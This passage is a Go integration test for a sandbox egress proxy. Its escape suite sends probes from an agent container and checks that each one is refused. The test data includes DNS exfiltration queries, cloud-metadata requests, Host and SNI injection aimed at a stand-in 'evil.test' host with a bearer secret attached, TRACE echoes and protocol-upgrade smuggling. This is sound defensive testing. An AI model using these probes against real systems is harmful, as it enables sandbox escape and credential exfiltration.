package sandbox_test

// The escape suite, run through the package API: the sandbox is what
// sandbox.New and NewTask make of Options and a TaskSpec, the masked
// secret's surrogate is the package's, and every probe runs with
// Task.Run in the task's container, from the overlay image EnsureImage
// puts on the base image, with the capabilities and settings every task
// gets. The upstream servers are this test's own, listening inside test
// containers' network namespaces on a test egress network (the
// sandbox's Options.EgressNetwork); no test traffic can leave the
// machine. Like the rest of the package's tests they need root and
// podman (make test-deps).

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airut-go/airut/internal/podman"
	"github.com/airut-go/airut/internal/testing/netnstest"
	"github.com/airut-go/airut/internal/testing/testcert"
	"github.com/airut-go/airut/proxy"
	"github.com/airut-go/airut/sandbox"
)

// connect is the test's own Podman connection: for its upstream hosts and
// egress networks, and to look at what the sandbox made.
func connect(t *testing.T) *podman.Client {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	c, err := podman.Connect(ctx, podman.ConnectOptions{StartService: true})
	if err != nil {
		t.Fatalf("podman: %v", err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func randHex(n int) string {
	b := make([]byte, n)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// upstream is the test's server behind the proxy: it records every
// request, over HTTP (port 80) or HTTPS (443), with the host it was for,
// its target as sent and all its headers (Authorization, X-Api-Key,
// Upgrade, HTTP2-Settings...).
type upstream struct {
	mu   sync.Mutex
	reqs []seen
}

type seen struct {
	Scheme, Host, Method, URI string
	Header                    http.Header
}

func (s seen) String() string { return s.Method + " " + s.Scheme + "://" + s.Host + s.URI }

func (u *upstream) handler(scheme string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.reqs = append(u.reqs, seen{scheme, r.Host, r.Method, r.RequestURI, r.Header.Clone()})
		u.mu.Unlock()
		fmt.Fprint(w, "upstream ok")
	})
}

func (u *upstream) seen() []seen {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]seen(nil), u.reqs...)
}

// env is one sandbox (its own sandbox.New) with one task up, and the
// upstream hosts behind its egress network.
type env struct {
	// tcpSeen and udpSeen count connections and datagrams that reached
	// the upstream host's raw ports: any would mean the proxy routes
	// packets.
	tcpSeen *atomic.Int64
	udpSeen *atomic.Int64
	c       *podman.Client
	sb      *sandbox.Sandbox
	task    *sandbox.Task
	// network and proxyIP are the task's conversation network and its
	// proxy's address there: the package does not say them, so start
	// reads them from podman (see inspectTask).
	network string
	proxyIP string
	up      *upstream
	upIP    string
	logFile string
	// surrogate is what the package put in the container's environment
	// for the masked secret SECRET_TOKEN (Task.Surrogates); real is the
	// secret's value, which only the proxy may hold.
	surrogate string
	real      string
	labels    map[string]string
	// outDir is mounted at /out in the task's container: the probe
	// writes its results there.
	outDir string
	runs   int
	// evil is the non-allowlisted evil.test host: it must hear nothing.
	evil *upstream
}

const allowlistYAML = `domains:
  - other.test
  - "*.wild.test"
url_prefixes:
  - host: api.sandbox.test
    path: /v1/*
    methods: [POST]
  - host: api.sandbox.test
    path: /graphql
    methods: [POST]
    graphql: {queries: [viewer]}
  - host: api.sandbox.test
    path: /repos/*/issues
    methods: [POST]
`

// testEgress makes an egress network for one test's sandbox and upstream
// hosts, removed when the test ends; id names the test's run.
func testEgress(ctx context.Context, t *testing.T, c *podman.Client) (id, egress string) {
	t.Helper()
	id = randHex(4)
	egress = "airut-test-egress-" + id
	if err := c.CreateNetwork(ctx, podman.NetworkSpec{Name: egress, DNS: true}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.RemoveNetwork(context.Background(), egress) })
	return id, egress
}

func start(t *testing.T, c *podman.Client, allowlist string) *env {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	id, egress := testEgress(ctx, t, c)
	// x.wild.test is allowlisted through "*.wild.test".
	names := []string{"api.sandbox.test", "other.test", "x.wild.test"}
	host := netnstest.StartHost(t, c, egress, baseImage, names...)
	cert, err := testcert.New("upstream", names...)
	if err != nil {
		t.Fatal(err)
	}
	up := &upstream{}
	// evil.test, a host of its own, is not allowlisted: the attacker's
	// server, which a proxy building the upstream URL from a Host like
	// "evil.test?.wild.test" would dial. Its certificate is trusted like
	// a public one: an attacker's server has a valid one for its name.
	evilHost := netnstest.StartHost(t, c, egress, baseImage, "evil.test")
	evilCert, err := testcert.New("evil", "evil.test")
	if err != nil {
		t.Fatal(err)
	}
	evil := &upstream{}
	evilHost.ServeHTTP(t, ":443", evil.handler("https"), &evilCert.TLS)
	evilHost.ServeHTTP(t, ":80", evil.handler("http"), nil)
	// A plain TCP service on the upstream host: reaching it from the agent
	// would mean the proxy routes packets.
	raw := host.Listen(t, ":2222")
	var tcpSeen atomic.Int64
	go func() {
		for {
			c, err := raw.Accept()
			if err != nil {
				return
			}
			tcpSeen.Add(1)
			c.Write([]byte("raw service\n"))
			c.Close()
		}
	}()
	udp := host.ListenPacket(t, ":5353")
	var udpSeen atomic.Int64
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
			udpSeen.Add(1)
		}
	}()
	host.ServeHTTP(t, ":443", up.handler("https"), &cert.TLS)
	// Plain HTTP too: what an allowed plain request carries (a surrogate,
	// never the real value; no Upgrade: h2c) arrives here.
	host.ServeHTTP(t, ":80", up.handler("http"), nil)

	// The proxy trusts both test servers' CAs besides the host's bundle,
	// as it would a corporate CA.
	caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(caFile, append(append([]byte(nil), cert.CertPEM...), evilCert.CertPEM...), 0o644); err != nil {
		t.Fatal(err)
	}
	labels := map[string]string{"airut.test.run": id}
	sb, err := sandbox.New(ctx, sandbox.Options{
		StateDir: filepath.Join(t.TempDir(), "state"), StartPodmanService: true,
		EgressNetwork: egress, UpstreamCAFile: caFile, Labels: labels,
	})
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	image, err := sb.EnsureImage(ctx, sandbox.ImageSpec{Base: baseImage})
	if err != nil {
		t.Fatalf("EnsureImage: %v", err)
	}
	real := "sk-ant-api03-" + randHex(20)
	e := &env{tcpSeen: &tcpSeen, udpSeen: &udpSeen, c: c, sb: sb, up: up, evil: evil, upIP: host.IP, real: real,
		logFile: filepath.Join(t.TempDir(), "network.log"), labels: labels, outDir: t.TempDir()}
	taskID := "t" + id
	task, err := sb.NewTask(ctx, sandbox.TaskSpec{
		ID: taskID, Dir: t.TempDir(), Image: image,
		Mounts: []sandbox.Mount{
			{Source: filepath.Join(binDir, "probe"), Target: "/probe", ReadOnly: true},
			{Source: e.outDir, Target: "/out"},
		},
		MaskedSecrets: []proxy.Secret{{Name: "SECRET_TOKEN", Value: real, Scopes: secretScopes, Headers: []string{"Authorization"}}},
		Allowlist:     []byte(allowlist),
		NetworkLog:    e.logFile,
		Timeout:       3 * time.Minute,
	})
	if err != nil {
		t.Fatalf("NewTask: %v", err)
	}
	e.task = task
	t.Cleanup(func() { task.Close(context.Background()) })
	// The surrogate is the package's, fresh for the task: the assertions
	// below tell it apart from the real value, so it must be one.
	e.surrogate = task.Surrogates()["SECRET_TOKEN"]
	if e.surrogate == "" || strings.Contains(e.surrogate, real) || strings.Contains(real, e.surrogate) || len(e.surrogate) != len(real) {
		t.Fatalf("surrogate of SECRET_TOKEN: %q (len %d), want a value of the real one's length that is not it", e.surrogate, len(e.surrogate))
	}
	e.network, e.proxyIP = inspectTask(t, c, sandbox.DefaultPrefix, taskID)
	return e
}

// inspectTask finds a task's conversation network and its proxy's
// address there, by the names the package documents
// (<prefix>-conv-<id>, <prefix>-proxy-<id>).
func inspectTask(t *testing.T, c *podman.Client, prefix, id string) (network, proxyIP string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	network = prefix + "-conv-" + id
	_, ips, err := c.NetNS(ctx, prefix+"-proxy-"+id)
	if err != nil {
		t.Fatalf("the task's proxy: %v", err)
	}
	if proxyIP = ips[network]; proxyIP == "" {
		t.Fatalf("the task's proxy has no address on %s: %v", network, ips)
	}
	return network, proxyIP
}

// secretScopes are the hosts the masked secret's real value may go to
// (over HTTPS, in Authorization).
var secretScopes = []string{"api.sandbox.test", "*.wild.test"}

type probeResult struct {
	Name    string   `json:"name"`
	Status  int      `json:"status"`
	Body    string   `json:"body"`
	Err     string   `json:"err"`
	Rcode   string   `json:"rcode"`
	Answers []string `json:"answers"`
}

// probe runs the probe binary with Task.Run in the task's container:
// the cases go in on stdin, the results come back in a file in the
// mounted /out (podman 4.3's attach can lose the tail of a short-lived
// container's stdout). The surrogate is in the container's environment
// as the package put it there.
func (e *env) probe(t *testing.T, cases []map[string]any) map[string]probeResult {
	t.Helper()
	in, _ := json.Marshal(cases)
	var stdout, errOut bytes.Buffer
	e.runs++
	name := fmt.Sprintf("results-%d.jsonl", e.runs)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	res, err := e.task.Run(ctx, sandbox.Command{
		Args:  []string{"/probe"},
		Env:   map[string]string{"PROBE_OUT": "/out/" + name},
		Stdin: bytes.NewReader(in), Stdout: &stdout, Stderr: &errOut,
	})
	if err != nil || res.Outcome != sandbox.OutcomeSuccess {
		t.Fatalf("probe: %s, exit %d, %v\n%s", res.Outcome, res.ExitCode, err, errOut.String())
	}
	if res.Network.Log != e.logFile {
		t.Errorf("run's network log is %q, want the task's %q", res.Network.Log, e.logFile)
	}
	out, err := os.ReadFile(filepath.Join(e.outDir, name))
	if err != nil {
		t.Fatalf("probe results: %v\n%s", err, errOut.String())
	}
	got := map[string]probeResult{}
	sc := bufio.NewScanner(bytes.NewReader(out))
	for sc.Scan() {
		var r probeResult
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("probe output %q: %v", sc.Text(), err)
		}
		got[r.Name] = r
	}
	if len(got) != len(cases) {
		t.Fatalf("probe answered %d of %d cases:\n%s\n%s", len(got), len(cases), out, errOut.String())
	}
	return got
}

// logLine is one line of the network log (proxy.LogLine, decoded here so
// the suite also builds against a proxy whose LogLine lacks a field).
type logLine struct {
	Kind     string   `json:"kind"`
	Method   string   `json:"method"`
	Host     string   `json:"host"`
	Path     string   `json:"path"`
	Status   int      `json:"status"`
	Allowed  bool     `json:"allowed"`
	Reason   string   `json:"reason"`
	Swapped  []string `json:"swapped"`
	Stripped []string `json:"stripped"`
	Withheld []string `json:"withheld"`
	Upstream string   `json:"upstream"`
	Error    string   `json:"error"`
}

func (e *env) log(t *testing.T) []logLine {
	t.Helper()
	data, err := os.ReadFile(e.logFile)
	if err != nil {
		t.Fatal(err)
	}
	var lines []logLine
	for _, l := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
		if len(l) == 0 {
			continue
		}
		var ll logLine
		if err := json.Unmarshal(l, &ll); err != nil {
			t.Fatalf("network log line %q: %v", l, err)
		}
		lines = append(lines, ll)
	}
	return lines
}

func httpCase(name, method, url string, extra ...func(map[string]any)) map[string]any {
	c := map[string]any{"name": name, "kind": "http", "method": method, "url": url}
	for _, f := range extra {
		f(c)
	}
	return c
}

func withHeader(k, v string) func(map[string]any) {
	return func(c map[string]any) {
		h, _ := c["header"].(map[string]string)
		if h == nil {
			h = map[string]string{}
			c["header"] = h
		}
		h[k] = v
	}
}

// rawCase writes raw as is to server (host:port; every name resolves to
// the proxy), inside TLS with server name sni when sni is set: a request
// target or Host header no HTTP client sends.
func rawCase(name, server, sni, raw string) map[string]any {
	c := map[string]any{"name": name, "kind": "raw", "server": server, "raw": raw}
	if sni != "" {
		c["tls"], c["sni"] = true, sni
	}
	return c
}

// TestEscapes runs the escape suite from inside an agent container: every
// case must be refused, the refusals the proxy sees must be in the
// network log, and the upstream must receive only what the allowlist
// permits, with the real secret only on its scoped hosts and only over
// HTTPS.
func TestEscapes(t *testing.T) {
	c := connect(t)
	e := start(t, c, allowlistYAML)
	ip := e.upIP
	auth := "Authorization: Bearer ${SECRET_TOKEN}\r\n"
	// The conversation network's own addresses. The host has none on
	// it: an internal network without DNS gets no gateway, and the first
	// address goes to a container (the agent's own, here). The host's
	// bridge does have an IPv6 link-local address: a listener there
	// would hear any agent that reaches the host around the proxy.
	conv := inspectConvNet(t, e)
	if conv.gateway != "" {
		t.Errorf("conversation network %s has a gateway %s: the host is on it", e.network, conv.gateway)
	}
	for _, a := range hostAddrs(t, "") {
		if conv.subnet.Contains(a) {
			t.Errorf("the host holds %s on the conversation subnet %s", a, conv.subnet)
		}
	}
	unused, last := conv.nth(77), conv.nth(254)
	proxyPort := e.proxyIP + ":8080"
	hostLL, hostLLSeen, hasLL := listenBridgeLinkLocal(t, conv)
	cases := []map[string]any{
		// Positive controls: the allowlisted request arrives, with the
		// real secret swapped in on its scoped host.
		httpCase("allowed", "POST", "https://api.sandbox.test/v1/messages", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
		httpCase("blocked-http", "GET", "http://blocked.test/x"),
		httpCase("blocked-https", "GET", "https://blocked.test/x"),
		httpCase("wrong-path", "POST", "https://api.sandbox.test/admin"),
		httpCase("wrong-method", "DELETE", "https://api.sandbox.test/v1/messages"),
		httpCase("direct-ip-http", "GET", "http://"+ip+"/v1/messages"),
		httpCase("direct-ip-https", "POST", "https://"+ip+"/v1/messages"),
		{"name": "dns-txt", "kind": "dns", "qtype": "TXT", "qname": "exfil.blocked.test"},
		{"name": "dns-aaaa", "kind": "dns", "qtype": "AAAA", "qname": "api.sandbox.test"},
		{"name": "dns-a", "kind": "dns", "qtype": "A", "qname": "c2VjcmV0.exfil.test"},
		{"name": "dns-outside", "kind": "dns", "qtype": "A", "qname": "outside-resolver.test", "server": ip + ":53"},
		{"name": "connect-http", "kind": "connect", "url": "http://other.test", "server": "api.sandbox.test:443"},
		{"name": "connect-https", "kind": "connect", "url": "https://other.test", "server": ip + ":443"},
		httpCase("host-mismatch", "POST", "https://api.sandbox.test/v1/messages", func(c map[string]any) { c["host"] = "blocked.test" }),
		{"name": "raw-tcp-name", "kind": "tcp", "server": "api.sandbox.test:22", "payload": "SSH-2.0-probe\r\n"},
		{"name": "raw-tcp-ip", "kind": "tcp", "server": ip + ":2222"},
		{"name": "raw-udp-ip", "kind": "udp", "server": ip + ":5353", "payload": "exfiltrated"},
		httpCase("metadata-dotted", "GET", "http://169.254.169.254/latest/meta-data/"),
		httpCase("metadata-decimal", "GET", "http://2852039166/latest/meta-data/"),
		httpCase("metadata-hex", "GET", "http://0xA9FEA9FE/latest/meta-data/"),
		httpCase("surrogate-out-of-scope", "GET", "https://other.test/collect", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
		httpCase("graphql-query", "POST", "https://api.sandbox.test/graphql", func(c map[string]any) { c["payload"] = `{"query":"{ viewer { login } }"}` }),
		httpCase("graphql-mutation", "POST", "https://api.sandbox.test/graphql", func(c map[string]any) {
			c["payload"] = `{"query":"mutation { deleteRepository(input:{}) { clientMutationId } }"}`
		}),

		// 1. A Host or SNI that is not a plain name but ends in an
		// allowlisted wildcard suffix (and the secret's wildcard scope):
		// a proxy building the upstream URL by concatenation would dial
		// evil.test, the real secret in hand. The control: the wildcard
		// entry itself works, with the real secret.
		httpCase("wild-allowed", "GET", "https://x.wild.test/ok", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
		rawCase("wild-host-query-http", "x.wild.test:80", "", "GET /x HTTP/1.1\r\nHost: evil.test?.wild.test\r\n"+auth+"\r\n"),
		rawCase("wild-host-hash-http", "x.wild.test:80", "", "GET /x HTTP/1.1\r\nHost: evil.test#.wild.test\r\n"+auth+"\r\n"),
		rawCase("wild-sni-query-https", "x.wild.test:443", "evil.test?.wild.test", "GET /x HTTP/1.1\r\nHost: evil.test?.wild.test\r\n"+auth+"\r\n"),
		rawCase("wild-host-query-https", "x.wild.test:443", "x.wild.test", "GET /x-tls HTTP/1.1\r\nHost: evil.test?.wild.test\r\n"+auth+"\r\n"),

		// 2. Path rules match the path alone: neither a fragment nor a
		// query satisfies /repos/*/issues; the rule itself, with a
		// query, goes through with the query intact.
		rawCase("path-fragment", "api.sandbox.test:443", "api.sandbox.test",
			"POST /repos/o/r/git/refs#/issues HTTP/1.1\r\nHost: api.sandbox.test\r\n"+auth+"Content-Length: 0\r\n\r\n"),
		rawCase("path-query", "api.sandbox.test:443", "api.sandbox.test",
			"POST /repos/o/r/git/refs?x=/issues HTTP/1.1\r\nHost: api.sandbox.test\r\n"+auth+"Content-Length: 0\r\n\r\n"),
		rawCase("path-rule-with-query", "api.sandbox.test:443", "api.sandbox.test",
			"POST /repos/o/r/issues?x=1 HTTP/1.1\r\nHost: api.sandbox.test\r\n"+auth+"Content-Length: 0\r\n\r\n"),

		// 3. Protocol switches: h2c would carry requests nobody checks
		// (the request goes on without it); WebSocket only where an
		// entry opts in (none here).
		rawCase("upgrade-h2c", "api.sandbox.test:80", "",
			"POST /v1/h2c HTTP/1.1\r\nHost: api.sandbox.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nContent-Length: 0\r\n\r\n"),
		rawCase("upgrade-websocket", "other.test:443", "other.test",
			"GET /socket HTTP/1.1\r\nHost: other.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"),

		// 4. Plain HTTP to the scoped host: the surrogate goes out as
		// is; the real value never travels unencrypted.
		httpCase("secret-plain-http", "POST", "http://api.sandbox.test/v1/plain", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),

		// 5. TRACE would echo the swapped request, real secret included,
		// back into the sandbox.
		httpCase("trace", "TRACE", "https://api.sandbox.test/v1/messages", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),
		// on a host whose entry allows every method
		httpCase("trace-wild", "TRACE", "https://x.wild.test/trace", withHeader("Authorization", "Bearer ${SECRET_TOKEN}")),

		// 6. Credentials of the agent's own on the scoped host are
		// stripped: the upstream would act on them as the installation.
		httpCase("foreign-x-api-key", "POST", "https://api.sandbox.test/v1/foreign-key", withHeader("X-Api-Key", "attacker-key")),
		httpCase("foreign-authorization", "POST", "https://api.sandbox.test/v1/foreign-auth", withHeader("Authorization", "Bearer attacker-token")),

		// 7. The conversation network's own addresses: unheld ones are
		// on-link for the agent (no answer to ARP: unreachable, never
		// routed anywhere); the proxy's at a port it serves nothing on
		// meets the catch-all.
		httpCase("conv-unused-http", "GET", "http://"+unused+"/"),
		{"name": "conv-unused-tcp", "kind": "tcp", "server": unused + ":22"},
		{"name": "conv-last-tcp", "kind": "tcp", "server": last + ":80"},
		httpCase("conv-proxy-port-http", "GET", "http://"+proxyPort+"/"),
		{"name": "conv-proxy-port-tcp", "kind": "tcp", "server": proxyPort, "payload": "GET / HTTP/1.0\r\n\r\n"},

		// 8. IPv6 link-local: the proxy only captures IPv4; nothing may
		// answer, the host's own bridge address included.
		httpCase("ipv6-ll-http", "GET", "http://[fe80::1]/"),
		{"name": "ipv6-ll-tcp", "kind": "tcp", "server": "[fe80::1]:80"},
		{"name": "ipv6-ll-zone-tcp", "kind": "tcp", "server": "[fe80::1%eth0]:80"},
	}
	llCases := []string{"ipv6-ll-http", "ipv6-ll-tcp", "ipv6-ll-zone-tcp"}
	if hasLL {
		h, port, _ := net.SplitHostPort(hostLL)
		cases = append(cases,
			httpCase("ipv6-ll-host-http", "GET", "http://["+h+"%25eth0]:"+port+"/"),
			map[string]any{"name": "ipv6-ll-host-tcp", "kind": "tcp", "server": "[" + h + "%eth0]:" + port})
		llCases = append(llCases, "ipv6-ll-host-http", "ipv6-ll-host-tcp")
	} else {
		t.Logf("the bridge %s has no IPv6 link-local address", conv.bridge)
	}
	got := e.probe(t, cases)

	for _, name := range []string{"allowed", "wild-allowed", "path-rule-with-query", "upgrade-h2c", "secret-plain-http", "foreign-x-api-key", "foreign-authorization"} {
		if r := got[name]; r.Status != 200 || r.Body != "upstream ok" {
			t.Errorf("%s: %+v, want 200 from upstream", name, r)
		}
	}
	// Direct addresses, the metadata address in any spelling included, are
	// routed to the proxy and refused there like any other host.
	for _, name := range []string{"blocked-http", "blocked-https", "wrong-path", "wrong-method",
		"direct-ip-http", "direct-ip-https", "metadata-dotted", "metadata-decimal", "metadata-hex"} {
		r := got[name]
		if r.Status != http.StatusForbidden || !strings.Contains(r.Body, "Network sandbox blocked") || !strings.Contains(r.Body, "network-allowlist.yaml") {
			t.Errorf("%s: %+v, want 403 explaining the block and how to request access", name, r)
		}
	}
	// Refused before the policy: 403 with the proxy's short reason.
	for name, why := range map[string]string{
		"wild-host-query-http":  "invalid Host header",
		"wild-host-hash-http":   "invalid Host header",
		"wild-host-query-https": "invalid Host header",
		"path-fragment":         "'#' is not allowed",
		"path-query":            "Network sandbox blocked",
		"upgrade-websocket":     "WebSocket to other.test is not allowed",
		"trace":                 "TRACE is not allowed",
		"trace-wild":            "TRACE is not allowed",
	} {
		if r := got[name]; r.Status != http.StatusForbidden || !strings.Contains(r.Body, why) {
			t.Errorf("%s: %+v, want 403 saying %q", name, r, why)
		}
	}
	// No certificate is minted for a server name that is not a plain
	// host: the handshake itself fails.
	if r := got["wild-sni-query-https"]; r.Status != 0 || !strings.HasPrefix(r.Err, "tls handshake:") {
		t.Errorf("wild-sni-query-https: %+v, want the TLS handshake refused", r)
	}
	// Raw TCP, to a name (which resolves to the proxy) or to a direct
	// address whose host really serves that port, meets the proxy's
	// catch-all: it reads why and is closed. Nothing reaches the host.
	for name, dst := range map[string]string{"raw-tcp-ip": ip + ":2222", "raw-tcp-name": e.proxyIP + ":22",
		"conv-proxy-port-tcp": proxyPort} {
		if r := got[name]; !strings.Contains(r.Body, "raw TCP to "+dst+" is blocked") || strings.Contains(r.Body, "raw service") {
			t.Errorf("%s: %+v, want the sandbox's refusal naming %s", name, r, dst)
		}
	}
	// HTTP to a port the proxy serves nothing on meets the same
	// catch-all: the client reads its refusal line, not a response.
	if r := got["conv-proxy-port-http"]; r.Status != 0 || !strings.Contains(r.Err, "malformed HTTP") {
		t.Errorf("conv-proxy-port-http: %+v, want no HTTP response (the catch-all's refusal)", r)
	}
	// Nothing may answer these: the connection itself fails (a
	// connection made, even one that yields no HTTP response, is an
	// escape).
	for _, name := range append([]string{"conv-unused-http", "conv-unused-tcp", "conv-last-tcp"}, llCases...) {
		r := got[name]
		if r.Err == "" || r.Status != 0 || r.Body != "" || strings.HasPrefix(r.Err, "connected") ||
			strings.Contains(r.Err, "malformed") || strings.Contains(r.Err, "connection broken") {
			t.Errorf("%s: %+v, want the connection to fail", name, r)
		}
	}
	if n := hostLLSeen.Load(); n != 0 {
		t.Errorf("the host accepted %d connections on its link-local address on the conversation bridge: the agent reaches the host around the proxy", n)
	}
	if n := e.tcpSeen.Load(); n != 0 {
		t.Errorf("the upstream host accepted %d raw connections made to its address: the proxy forwards packets", n)
	}
	if n := e.udpSeen.Load(); n != 0 {
		t.Errorf("the upstream host received %d datagrams sent to its address: the proxy forwards packets", n)
	}
	if r := got["connect-https"]; r.Status == 200 {
		t.Errorf("connect-https: %+v, want CONNECT refused", r)
	}
	for _, name := range []string{"dns-txt", "dns-aaaa"} {
		if r := got[name]; r.Rcode != "NOTIMP" || len(r.Answers) != 0 {
			t.Errorf("%s: %+v, want NOTIMP and no answer", name, r)
		}
	}
	if r := got["dns-a"]; len(r.Answers) != 1 || !strings.HasSuffix(r.Answers[0], " "+e.proxyIP) {
		t.Errorf("dns-a: %+v, want only the proxy address %s", r, e.proxyIP)
	}
	if r := got["dns-outside"]; r.Err == "" {
		t.Errorf("dns-outside: %+v, want the outside resolver unreachable", r)
	}
	if r := got["connect-http"]; r.Status == 200 {
		t.Errorf("connect-http: %+v, want CONNECT refused", r)
	}
	if r := got["host-mismatch"]; r.Status == 200 || r.Status == 0 && r.Err == "" {
		t.Errorf("host-mismatch: %+v, want refused", r)
	}
	if r := got["graphql-query"]; r.Status != 200 {
		t.Errorf("graphql-query: %+v, want the allowed query through", r)
	}
	if r := got["graphql-mutation"]; r.Status != 403 || !strings.Contains(r.Body, "graphql_operation_blocked") {
		t.Errorf("graphql-mutation: %+v, want 403 graphql_operation_blocked", r)
	}
	if r := got["surrogate-out-of-scope"]; r.Status != 200 {
		t.Errorf("surrogate-out-of-scope: %+v, want the allowlisted host reached (with the surrogate)", r)
	}

	// What the upstream received: exactly the allowed requests, in the
	// order sent; the real value only over HTTPS, in Authorization, on a
	// scoped host; no protocol switch and no credential of the agent's
	// own on the scoped host.
	var reqs []string
	byReq := map[string]seen{}
	evilReqs := e.evil.seen()
	for _, s := range evilReqs {
		t.Errorf("evil.test, which is not allowlisted, received %s (Authorization %q)", s, describe(s.Header.Get("Authorization"), e))
	}
	for _, s := range append(e.up.seen(), evilReqs...) {
		reqs = append(reqs, s.String())
		byReq[s.String()] = s
		scoped := s.Host == "api.sandbox.test" || s.Host == "x.wild.test"
		for k, vs := range s.Header {
			for _, v := range vs {
				if strings.Contains(v, e.real) && (s.Scheme != "https" || k != "Authorization" || !scoped) {
					t.Errorf("%s: the real secret arrived in %s", s, k)
				}
			}
		}
		if strings.Contains(s.URI, e.real) {
			t.Errorf("%s: the real secret arrived in the request target", s)
		}
		for _, k := range []string{"Upgrade", "Http2-Settings"} {
			if v := s.Header.Get(k); v != "" {
				t.Errorf("%s: upstream received %s: %s", s, k, v)
			}
		}
		if scoped && s.Header.Get("X-Api-Key") != "" {
			t.Errorf("%s: scoped host received a foreign X-Api-Key %q", s, s.Header.Get("X-Api-Key"))
		}
		if a := s.Header.Get("Authorization"); scoped && a != "" && a != "Bearer "+e.real && a != "Bearer "+e.surrogate {
			t.Errorf("%s: scoped host received a foreign Authorization %q", s, a)
		}
	}
	want := []string{
		"POST https://api.sandbox.test/v1/messages",
		"GET https://other.test/collect",
		"POST https://api.sandbox.test/graphql",
		"GET https://x.wild.test/ok",
		"POST https://api.sandbox.test/repos/o/r/issues?x=1",
		"POST http://api.sandbox.test/v1/h2c",
		"POST http://api.sandbox.test/v1/plain",
		"POST https://api.sandbox.test/v1/foreign-key",
		"POST https://api.sandbox.test/v1/foreign-auth",
	}
	if strings.Join(reqs, "|") != strings.Join(want, "|") {
		t.Errorf("upstream received %q, want exactly %q", reqs, want)
	}
	for r, wantAuth := range map[string]string{
		"POST https://api.sandbox.test/v1/messages":          "Bearer " + e.real,
		"GET https://other.test/collect":                     "Bearer " + e.surrogate,
		"GET https://x.wild.test/ok":                         "Bearer " + e.real,
		"POST https://api.sandbox.test/repos/o/r/issues?x=1": "Bearer " + e.real,
		"POST http://api.sandbox.test/v1/plain":              "Bearer " + e.surrogate,
		"POST https://api.sandbox.test/v1/foreign-auth":      "",
	} {
		if s, ok := byReq[r]; ok && s.Header.Get("Authorization") != wantAuth {
			t.Errorf("%s: Authorization %q, want %q", r, s.Header.Get("Authorization"), describe(wantAuth, e))
		}
	}

	// The network log: every refusal the proxy saw, the swap by name,
	// never a secret value.
	logData, _ := os.ReadFile(e.logFile)
	if bytes.Contains(logData, []byte(e.real)) || bytes.Contains(logData, []byte(e.surrogate)) {
		t.Errorf("network log holds a secret value")
	}
	if bytes.Contains(logData, []byte("fe80")) {
		t.Errorf("an IPv6 link-local connection reached the proxy: %s", logData)
	}
	lines := e.log(t)
	find := func(kind, method, host, path string, allowed bool) *logLine {
		for i, l := range lines {
			if l.Kind == kind && l.Method == method && l.Host == host && (path == "" || l.Path == path) && l.Allowed == allowed {
				return &lines[i]
			}
		}
		return nil
	}
	for _, w := range []struct {
		kind, method, host, path string
		allowed                  bool
	}{
		{"http", "GET", "blocked.test", "/x", false},
		{"http", "POST", "api.sandbox.test", "/admin", false},
		{"http", "DELETE", "api.sandbox.test", "/v1/messages", false},
		{"http", "GET", "0xa9fea9fe", "/latest/meta-data/", false},
		{"http", "GET", "2852039166", "/latest/meta-data/", false},
		{"http", "GET", "169.254.169.254", "/latest/meta-data/", false},
		{"http", "GET", ip, "/v1/messages", false},
		{"http", "POST", ip, "/v1/messages", false},
		{"http", "CONNECT", ip + ":443", "", false},
		{"dns", "TXT", "exfil.blocked.test.", "", false},
		{"dns", "AAAA", "api.sandbox.test.", "", false},
		{"dns", "A", "c2VjcmV0.exfil.test.", "", true},
		// the query meant for an outside resolver reached the proxy's
		// responder instead (its answer, from the wrong address, is dropped)
		{"dns", "A", "outside-resolver.test.", "", true},
		{"http", "CONNECT", "api.sandbox.test:443", "", false},
		{"http", "POST", "blocked.test", "/v1/messages", false},
		{"http", "GET", "other.test", "/collect", true},
		{"tcp", "", ip + ":2222", "", false},
		{"tcp", "", e.proxyIP + ":22", "", false},
		{"udp", "", ip + ":5353", "", false},
		// 1. (the refused handshake of wild-sni-query-https is logged
		// with the server name it offered and no method)
		{"http", "", "evil.test?.wild.test", "", false},
		{"http", "GET", "x.wild.test", "/ok", true},
		{"http", "GET", "evil.test?.wild.test", "/x", false},
		{"http", "GET", "evil.test#.wild.test", "/x", false},
		{"http", "GET", "evil.test?.wild.test", "/x-tls", false},
		// 2.
		{"http", "POST", "api.sandbox.test", "/repos/o/r/git/refs#/issues", false},
		{"http", "POST", "api.sandbox.test", "/repos/o/r/git/refs", false},
		{"http", "POST", "api.sandbox.test", "/repos/o/r/issues", true},
		// 3.
		{"http", "POST", "api.sandbox.test", "/v1/h2c", true},
		{"http", "GET", "other.test", "/socket", false},
